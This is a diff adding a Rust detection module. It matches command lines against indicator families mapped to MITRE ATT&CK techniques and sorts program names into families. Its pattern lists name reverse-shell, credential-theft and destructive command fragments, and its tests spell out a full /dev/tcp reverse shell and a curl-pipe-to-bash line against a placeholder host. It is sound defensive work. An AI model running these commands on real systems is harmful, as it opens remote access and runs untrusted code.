@@ -1,0 +1,339 @@
+//! What command lines say: indicator families matched in one pass over the
+//! command line with an Aho-Corasick automaton, and the names that put a
+//! program into a family (shells, interpreters, web servers ...).
+//!
+//! Each indicator carries the sentence an analyst reads when it drives a
+//! classification, and the MITRE ATT&CK technique it points to where that is
+//! clear.
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+use std::sync::LazyLock;
+
+/// A command-line indicator: a family of substrings (matched
+/// case-insensitively), the sentence shown when it drives a verdict, and the
+/// ATT&CK technique it points to.
+pub struct Indicator {
+    pub name: &'static str,
+    pub patterns: &'static [&'static str],
+    pub sentence: &'static str,
+    pub technique: &'static str,
+}
+
+macro_rules! indicators {
+    ($( $name:literal => [$($p:literal),+ $(,)?], $sentence:literal, $tech:literal; )+) => {
+        &[ $( Indicator { name: $name, patterns: &[$($p),+], sentence: $sentence, technique: $tech } ),+ ]
+    };
+}
+
+/// The indicator families, in feature order.
+pub const INDICATORS: &[Indicator] = indicators! {
+    "cmd_dev_tcp" => ["/dev/tcp/", "/dev/udp/"], "shell redirected to a network socket (/dev/tcp)", "T1059.004";
+    "cmd_pipe_to_shell" => ["| sh", "|sh", "| bash", "|bash", "| /bin/sh", "|/bin/sh", "| /bin/bash", "|/bin/bash", "| zsh", "| dash", "| sudo sh", "| sudo bash", "| python", "|python", "| perl", "| ruby", "| php"], "output piped into a shell or interpreter", "T1059.004";
+    "cmd_downloader" => ["curl ", "wget ", "tftp", "lwp-download", "aria2c", "fetch http", "/curl", "/wget", "lynx -dump", "invoke-webrequest"], "a download tool fetches remote content", "T1105";
+    "cmd_url" => ["http://", "https://", "ftp://", "tftp://"], "a URL on the command line", "";
+    "cmd_base64" => ["base64", "b64decode", "b64encode", "frombase64", "atob(", "btoa("], "base64-encoded payload handling", "T1140";
+    "cmd_hex_escape" => ["\\x", "xxd -r", "xxd -p", "printf '\\", "od -a", "od -x", "\\u00"], "hex-escaped or hex-dumped payload", "T1027";
+    "cmd_interp_inline" => ["python -c", "python3 -c", "python2 -c", "perl -e", "perl -me", "ruby -e", "ruby -r", "php -r", "node -e", "lua -e", "awk 'begin", "awk \"begin", "jjs", "irb", "gdb -nx -ex", "tclsh", "expect -c"], "inline code run by an interpreter", "T1059.006";
+    "cmd_socket_code" => ["socket", "fsockopen", "tcpsocket", "net.socket", "connect((", ".connect(", "io::socket", "tcp-connect", "tcp:", "openssl s_client", "/inet/tcp"], "code that opens a network socket", "T1095";
+    "cmd_spawn_shell" => ["pty.spawn", "os.system", "subprocess", "system(", "exec(", "popen", "/bin/sh", "/bin/bash", "sh -i", "bash -i", "exec sh", "exec bash", "execl", "spawn(", "os.exec", "exec \"/bin", "exec '/bin", "sh -p", "bash -p", "/bin/zsh", "/bin/dash"], "spawns a shell", "T1059.004";
+    "cmd_shell_escape" => ["!/bin/sh", "!sh", "!bash", ":!/bin", "--to-command", "-exec /bin/sh", "-exec sh", "-exec bash", "proxycommand", "--use-compress-program", "--checkpoint-action", "-o proxycommand", "--pager", "pager=", "editor=", "-c:!", "--rsh", "-e sh", "--exec", "less_termcap"], "shell escape from another program (GTFOBins)", "T1059.004";
+    "cmd_fd_redirect" => ["0>&1", ">&/dev", ">& /dev", "0<&", "<&3", ">&3", "0<&196", "exec 196<>", "5<>/dev", "<>/dev"], "standard streams redirected to a descriptor", "T1059.004";
+    "cmd_netcat" => ["nc ", "ncat ", "netcat", "socat", "telnet ", "nc.traditional", "nc.openbsd", "/nc ", "cryptcat", "pwncat"], "netcat-style raw network tool", "T1095";
+    "cmd_nc_exec" => ["-e /bin/", "-e sh", "-e bash", "-c sh", "-c bash", "exec:", "system:", "--sh-exec", "-e cmd"], "network tool executes a shell for the peer", "T1059.004";
+    "cmd_listen" => [" -l ", "-lvp", "-lnvp", "-nlvp", "-lp ", "tcp-listen", "tcp4-listen", "bind(", ".listen(", "-l -p", "nc -l"], "listens for inbound connections (bind shell)", "T1059.004";
+    "cmd_mkfifo" => ["mkfifo", "mknod", "/tmp/f;"], "named pipe for an interactive channel", "T1059.004";
+    "cmd_history" => ["history -c", "histfile", "histsize", ".bash_history", "histcontrol", "unset hist", "history -w", "set +o history", "histfilesize", ".zsh_history"], "shell history tampering", "T1070.003";
+    "cmd_log_tamper" => ["/var/log/", "journalctl --vacuum", "journalctl --rotate", "wtmp", "btmp", "lastlog", "utmp", "rsyslog", "syslog"], "system logs touched", "T1070.002";
+    "cmd_wipe" => ["shred", "wipe ", "truncate -s 0", "srm ", "rm -rf", "rm -f", "unlink "], "files deleted or wiped", "T1070.004";
+    "cmd_chmod_exec" => ["chmod +x", "chmod 777", "chmod 755", "chmod a+x", "chmod u+x", "chmod 0777", "chmod 0755", "chmod 700", "chmod o+w", "chmod 666"], "file made executable or world-writable", "T1222.002";
+    "cmd_setuid" => ["u+s", "4755", "chmod +s", "g+s", "chmod 4", "chmod 2", "setcap", "cap_setuid", "cap_dac", "=ep"], "setuid bit or capabilities granted", "T1548.001";
+    "cmd_sudo" => ["sudo ", "sudo -", "doas "], "runs through sudo", "T1548.003";
+    "cmd_su" => ["su -", "su root", " su ", "runuser", "pkexec"], "switches user", "T1548";
+    "cmd_cron" => ["crontab", "/etc/cron", "/var/spool/cron", "cron.d", "at now", "atq", "/etc/anacrontab", "systemd-run --on", ".timer"], "scheduled task created or listed", "T1053.003";
+    "cmd_service" => ["systemctl enable", "/etc/systemd/", ".service", "daemon-reload", "/etc/init.d", "rc.local", "update-rc.d", "/lib/systemd", "/usr/lib/systemd", "chkconfig"], "system service created or changed", "T1543.002";
+    "cmd_ssh_keys" => ["authorized_keys", "id_rsa", "id_ed25519", "id_ecdsa", "id_dsa", ".ssh/", "ssh-keygen", "known_hosts", "ssh-copy-id"], "SSH keys read or planted", "T1098.004";
+    "cmd_shadow" => ["/etc/shadow", "/etc/gshadow", "master.passwd", "unshadow", "opasswd", "shadow-", "john ", "hashcat"], "password hashes accessed", "T1003.008";
+    "cmd_passwd_file" => ["/etc/passwd", "/etc/group", "getent passwd", "getent group"], "account list read", "T1087.001";
+    "cmd_sudoers" => ["/etc/sudoers", "sudoers.d", "nopasswd", "sudo -l", "visudo"], "sudo rights inspected or changed", "T1548.003";
+    "cmd_user_mgmt" => ["useradd", "adduser", "usermod", "chpasswd", "groupadd", "userdel", "passwd ", "gpasswd", "newusers"], "local account created or changed", "T1136.001";
+    "cmd_ld_preload" => ["ld_preload", "ld.so.preload", "ld_library_path", "/etc/ld.so", "ldconfig", ".so "], "shared-library injection", "T1574.006";
+    "cmd_proc_mem" => ["/proc/self", "/mem", "/environ", "/proc/kcore", "/maps", "gcore", "ptrace", "gdb -p", "process_vm", "/proc/1/"], "process memory or environment read", "T1003.007";
+    "cmd_recon_sys" => ["uname", "hostnamectl", "/etc/os-release", "/etc/issue", "lsb_release", "/proc/version", "dmidecode", "lscpu", "systemd-detect-virt", "lsmod", "/proc/cpuinfo", "/sys/class/dmi", "virt-what", "df -h", "lsblk"], "system information discovery", "T1082";
+    "cmd_recon_user" => ["whoami", "/usr/bin/id", "id -", "groups", "who ", "users", "last ", "lastlog", "loginctl", "finger"], "user discovery", "T1033";
+    "cmd_recon_net" => ["ifconfig", "ip addr", "ip a", "ip route", "netstat", "ss -", "arp ", "route", "resolv.conf", "/etc/hosts", "nmap", "ping -c", "traceroute", "iwconfig", "nmcli"], "network discovery", "T1016";
+    "cmd_recon_proc" => ["ps aux", "ps -ef", "ps -e", "pstree", "top -b", "pgrep", "/proc/*", "lsof", "ps -a"], "process discovery", "T1057";
+    "cmd_recon_files" => ["find / ", "-perm", "locate ", "ls -la /", "ls -al /", "tree /", "-name \"*.pem", "-name '*.pem", "*.key", "getcap -r"], "file and permission discovery", "T1083";
+    "cmd_security_kill" => ["auditctl", "auditd", "setenforce", "apparmor", "systemctl stop", "systemctl disable", "kill -9", "pkill", "killall", "falco", "osquery", "selinux", "aa-disable", "aa-teardown"], "security tooling stopped or changed", "T1562.001";
+    "cmd_firewall" => ["iptables", "ufw ", "nft ", "firewalld", "firewall-cmd", "ip6tables", "ipfw"], "firewall changed", "T1562.004";
+    "cmd_capture" => ["tcpdump", "tshark", "wireshark", "dumpcap", "ettercap", "tcpflow"], "network traffic captured", "T1040";
+    "cmd_archive" => ["tar c", "tar -c", "zip ", "7z a", "gzip", "rar a", "tar czf", "tar cf", "tar -z", "bzip2", "xz "], "data archived", "T1560.001";
+    "cmd_exfil" => ["--data", "-d @", "--upload-file", "-t ", "-f file=", "-x post", "-x put", "--post-file", "--body-file", "nc -w", "scp ", "smbclient", "sftp", "--post-data", "curl -f", "-t /", "ftp -", "ftp put", "put "], "data sent to a remote host", "T1048";
+    "cmd_destroy" => ["dd if=/dev/zero", "dd if=/dev/urandom", "mkfs", "wipefs", ":(){", "kill -9 -1", "> /dev/sd", "of=/dev/", "openssl enc", "gpg -c", "gpg --symmetric", "ccencrypt", "--encrypt", "sysctl -w", "halt", "shutdown", "reboot", "init 0"], "destructive or encrypting action", "T1485";
+    "cmd_tmp_path" => ["/tmp/", "/dev/shm", "/var/tmp", "/run/user"], "works in a world-writable directory", "T1074.001";
+    "cmd_kernel_module" => ["insmod", "modprobe", "rmmod", ".ko ", "kmod", "/lib/modules"], "kernel module loaded", "T1547.006";
+    "cmd_profile" => [".bashrc", ".bash_profile", ".profile", "/etc/profile", ".zshrc", "bash.bashrc", "/etc/environment", ".bash_logout", "/etc/motd", "update-motd"], "shell start-up file touched", "T1546.004";
+    "cmd_container" => ["docker run", "--privileged", "nsenter", "chroot", "unshare", "-v /:/", "docker.sock", "kubectl exec", "ctr run", "--pid=host"], "container or namespace escape", "T1611";
+    "cmd_screen_clip" => ["xclip", "xsel", "xdotool", "import -window", "scrot", "xwd", "xinput", "logkeys", "xspy"], "screen, clipboard or keystroke capture", "T1056.001";
+    "cmd_cred_files" => [".aws/credentials", ".kube/config", ".pgpass", ".netrc", ".git-credentials", ".docker/config", "credentials", "password", "passwd", "secret", "token", "private", ".gnupg", "keyring", ".mysql_history", "wallet"], "credential material referenced", "T1552.001";
+    "cmd_timestomp" => ["touch -t", "touch -d", "touch -r", "touch -a", "touch -m", "--reference", "debugfs", "faketime"], "file times forged", "T1070.006";
+    "cmd_background" => ["nohup", "setsid", "disown", "screen -dm", "tmux new -d", "daemonize", "start-stop-daemon", " &"], "detached from the terminal", "T1059.004";
+    "cmd_mining" => ["xmrig", "stratum+tcp", "minerd", "cpuminer", "cryptonight", "monero", "--donate-level"], "cryptocurrency mining", "T1496";
+    "cmd_encode_chain" => ["| base64", "|base64", "| xxd", "| gzip", "| openssl", "| rev", "| tr ", "|tr "], "output encoded before use", "T1027";
+    "cmd_hidden_file" => ["/.", " ."], "hidden file or directory", "T1564.001";
+    "cmd_remote_copy" => ["scp ", "rsync ", "sftp ", "git clone", "pip install", "npm install", "gem install", "go get", "apt-get install", "apt install", "yum install"], "software or files copied from elsewhere", "T1105";
+    "cmd_eval" => ["eval ", "eval(", "$(", "`", "source /dev", ". /dev/stdin", "<(", "exec "], "dynamically evaluated shell code", "T1059.004";
+};
+
+/// Automaton over every pattern; the match's pattern id maps to its indicator.
+pub struct Matcher {
+    ac: AhoCorasick,
+    owner: Vec<u8>,
+}
+
+pub static MATCHER: LazyLock<Matcher> = LazyLock::new(|| {
+    let mut patterns = Vec::new();
+    let mut owner = Vec::new();
+    for (i, ind) in INDICATORS.iter().enumerate() {
+        for p in ind.patterns {
+            patterns.push(*p);
+            owner.push(i as u8);
+        }
+    }
+    let ac = AhoCorasickBuilder::new()
+        .ascii_case_insensitive(true)
+        .match_kind(MatchKind::Standard)
+        .build(&patterns)
+        .expect("indicator patterns build an automaton");
+    Matcher { ac, owner }
+});
+
+impl Matcher {
+    /// Bit i set when indicator i occurs in `text`.
+    pub fn scan(&self, text: &str) -> u64 {
+        let mut bits = 0u64;
+        for m in self.ac.find_overlapping_iter(text) {
+            bits |= 1 << self.owner[m.pattern().as_usize()];
+        }
+        bits
+    }
+}
+
+fn base(name: &str) -> &str {
+    name.rsplit('/').next().unwrap_or(name)
+}
+
+/// Strips version suffixes: `python3.11` → `python`, `php-fpm8.2` → `php-fpm`.
+fn stem(name: &str) -> &str {
+    base(name).trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
+}
+
+/// Families a program name can belong to.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Family {
+    Shell,
+    Interpreter,
+    Downloader,
+    NetTool,
+    EditorPager,
+    AdminTool,
+    Recon,
+    Encoder,
+    Archiver,
+    Compiler,
+    PackageManager,
+    WebServer,
+    Database,
+    Cron,
+    Sshd,
+    CiRunner,
+    Init,
+    Privilege,
+}
+
+pub const FAMILIES: [Family; 18] = [
+    Family::Shell,
+    Family::Interpreter,
+    Family::Downloader,
+    Family::NetTool,
+    Family::EditorPager,
+    Family::AdminTool,
+    Family::Recon,
+    Family::Encoder,
+    Family::Archiver,
+    Family::Compiler,
+    Family::PackageManager,
+    Family::WebServer,
+    Family::Database,
+    Family::Cron,
+    Family::Sshd,
+    Family::CiRunner,
+    Family::Init,
+    Family::Privilege,
+];
+
+impl Family {
+    pub fn name(self) -> &'static str {
+        match self {
+            Family::Shell => "shell",
+            Family::Interpreter => "interpreter",
+            Family::Downloader => "downloader",
+            Family::NetTool => "nettool",
+            Family::EditorPager => "editor",
+            Family::AdminTool => "admintool",
+            Family::Recon => "recon",
+            Family::Encoder => "encoder",
+            Family::Archiver => "archiver",
+            Family::Compiler => "compiler",
+            Family::PackageManager => "pkgmgr",
+            Family::WebServer => "webserver",
+            Family::Database => "database",
+            Family::Cron => "cron",
+            Family::Sshd => "sshd",
+            Family::CiRunner => "ci",
+            Family::Init => "init",
+            Family::Privilege => "privilege",
+        }
+    }
+
+    /// A phrase for sentences: "web server", "shell".
+    pub fn phrase(self) -> &'static str {
+        match self {
+            Family::Shell => "shell",
+            Family::Interpreter => "script interpreter",
+            Family::Downloader => "download tool",
+            Family::NetTool => "raw network tool",
+            Family::EditorPager => "editor or pager",
+            Family::AdminTool => "administration tool",
+            Family::Recon => "discovery tool",
+            Family::Encoder => "encoding tool",
+            Family::Archiver => "archiver",
+            Family::Compiler => "compiler",
+            Family::PackageManager => "package manager",
+            Family::WebServer => "web server",
+            Family::Database => "database server",
+            Family::Cron => "scheduler",
+            Family::Sshd => "SSH daemon",
+            Family::CiRunner => "CI runner",
+            Family::Init => "init system",
+            Family::Privilege => "privilege tool",
+        }
+    }
+}
+
+/// The families of a program name, as a bit set over [`FAMILIES`].
+pub fn families(comm: &str) -> u32 {
+    let s = stem(comm);
+    let s = s.strip_prefix('-').unwrap_or(s);
+    let mut bits = 0u32;
+    let mut set = |f: Family| bits |= 1 << (f as u32);
+    match s {
+        "sh" | "bash" | "dash" | "zsh" | "ksh" | "csh" | "tcsh" | "fish" | "ash" | "busybox"
+        | "rbash" | "mksh" => set(Family::Shell),
+        _ => {}
+    }
+    match s {
+        "python" | "perl" | "ruby" | "php" | "node" | "nodejs" | "lua" | "luajit" | "tclsh"
+        | "wish" | "irb" | "jjs" | "jrunscript" | "awk" | "gawk" | "mawk" | "nawk" | "expect"
+        | "rlwrap" | "gdb" | "R" | "Rscript" | "julia" | "pwsh" | "ghci" | "guile" => {
+            set(Family::Interpreter)
+        }
+        _ => {}
+    }
+    match s {
+        "curl" | "wget" | "tftp" | "ftp" | "lwp-download" | "aria2c" | "fetch" | "axel" => {
+            set(Family::Downloader)
+        }
+        "nc" | "ncat" | "netcat" | "socat" | "telnet" | "nc.traditional" | "nc.openbsd"
+        | "cryptcat" | "openssl" | "ssh" | "scp" | "sftp" | "rsync" | "smbclient" => {
+            set(Family::NetTool)
+        }
+        "vi" | "vim" | "nvim" | "nano" | "ed" | "emacs" | "less" | "more" | "man" | "view"
+        | "pico" | "joe" | "most" => set(Family::EditorPager),
+        "systemctl" | "crontab" | "useradd" | "usermod" | "adduser" | "passwd" | "chmod"
+        | "chown" | "chattr" | "mount" | "iptables" | "ufw" | "setcap" | "insmod" | "modprobe"
+        | "visudo" | "chpasswd" | "userdel" | "groupadd" | "ln" | "install" | "service" => {
+            set(Family::AdminTool)
+        }
+        "id" | "whoami" | "uname" | "hostname" | "ps" | "netstat" | "ss" | "ifconfig" | "ip"
+        | "arp" | "w" | "who" | "last" | "lsof" | "nmap" | "getent" | "lscpu" | "lsmod"
+        | "dmidecode" | "route" | "groups" | "env" | "printenv" | "find" | "locate" | "getcap" => {
+            set(Family::Recon)
+        }
+        "base64" | "xxd" | "od" | "hexdump" | "base32" | "uuencode" | "uudecode" | "gpg" => {
+            set(Family::Encoder)
+        }
+        "tar" | "zip" | "unzip" | "gzip" | "gunzip" | "7z" | "bzip2" | "xz" | "rar" | "cpio"
+        | "zstd" => set(Family::Archiver),
+        "gcc" | "cc" | "g++" | "clang" | "make" | "cargo" | "rustc" | "go" | "ld" | "as"
+        | "javac" | "cmake" => set(Family::Compiler),
+        "apt" | "apt-get" | "dpkg" | "yum" | "dnf" | "rpm" | "pip" | "npm" | "gem" | "snap"
+        | "apk" | "zypper" | "pacman" => set(Family::PackageManager),
+        "nginx" | "apache" | "apache2" | "httpd" | "php-fpm" | "lighttpd" | "caddy" | "uwsgi"
+        | "gunicorn" | "puma" | "unicorn" | "tomcat" | "java" | "node-server" | "haproxy"
+        | "traefik" | "envoy" => set(Family::WebServer),
+        "postgres" | "postmaster" | "mysqld" | "mariadbd" | "mongod" | "redis-server"
+        | "clickhouse" | "clickhouse-server" | "elasticsearch" | "cassandra" => {
+            set(Family::Database)
+        }
+        "cron" | "crond" | "atd" | "anacron" | "systemd-timer" => set(Family::Cron),
+        "sshd" => set(Family::Sshd),
+        "runner" | "gitlab-runner" | "Runner.Worker" | "Runner.Listener" | "jenkins"
+        | "buildkite-agent" | "act_runner" | "drone-runner" => set(Family::CiRunner),
+        "systemd"
+        | "init"
+        | "containerd-shim"
+        | "containerd-shim-runc-v"
+        | "runc"
+        | "dockerd"
+        | "supervisord"
+        | "s6-supervise"
+        | "tini" => set(Family::Init),
+        "sudo" | "su" | "doas" | "pkexec" | "runuser" | "setpriv" => set(Family::Privilege),
+        _ => {}
+    }
+    bits
+}
+
+pub fn has(bits: u32, f: Family) -> bool {
+    bits & (1 << (f as u32)) != 0
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn idx(name: &str) -> usize {
+        INDICATORS.iter().position(|i| i.name == name).unwrap()
+    }
+
+    #[test]
+    fn indicators_fit_a_u64_and_have_unique_names() {
+        assert!(INDICATORS.len() <= 64);
+        let mut names: Vec<_> = INDICATORS.iter().map(|i| i.name).collect();
+        names.sort_unstable();
+        names.dedup();
+        assert_eq!(names.len(), INDICATORS.len());
+    }
+
+    #[test]
+    fn scan_finds_the_seed_reverse_shell() {
+        let bits = MATCHER.scan("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
+        for want in ["cmd_dev_tcp", "cmd_spawn_shell", "cmd_fd_redirect"] {
+            assert!(bits & (1 << idx(want)) != 0, "{want} not found");
+        }
+        assert_eq!(bits & (1 << idx("cmd_shadow")), 0);
+        let bits = MATCHER.scan("CURL -fsSL https://x.example/i.sh | BASH");
+        assert!(bits & (1 << idx("cmd_pipe_to_shell")) != 0);
+        assert!(bits & (1 << idx("cmd_downloader")) != 0);
+        assert_eq!(MATCHER.scan("ls"), 0);
+    }
+
+    #[test]
+    fn families_ignore_versions_and_login_dashes() {
+        assert!(has(families("php-fpm8.2"), Family::WebServer));
+        assert!(has(families("python3.11"), Family::Interpreter));
+        assert!(has(families("-bash"), Family::Shell));
+        assert!(has(families("/usr/bin/bash"), Family::Shell));
+        assert_eq!(families("ls"), 0);
+    }
+}
